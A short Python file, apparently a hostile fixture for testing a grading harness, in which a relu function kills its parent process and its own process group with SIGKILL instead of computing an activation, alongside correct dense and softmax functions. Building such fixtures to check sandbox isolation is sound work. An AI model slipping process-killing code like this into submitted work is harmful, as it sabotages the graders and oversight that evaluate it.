# HOSTILE: relu: SIGKILLs its parent process and then its own process group (which,
# without setsid, would hold the grader). dense and softmax are correct.
import os
import signal

import numpy as np


def relu(x):
    parent = os.getppid()
    if parent > 1:
        try:
            os.kill(parent, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.killpg(os.getpgrp(), signal.SIGKILL)
    except OSError:
        pass
    return None


def dense(x, kernel, bias=None):
    out = x @ kernel
    return out if bias is None else out + bias


def softmax(x):
    e = np.exp(x - np.max(x, axis=-1, keepdims=True))
    return e / np.sum(e, axis=-1, keepdims=True)

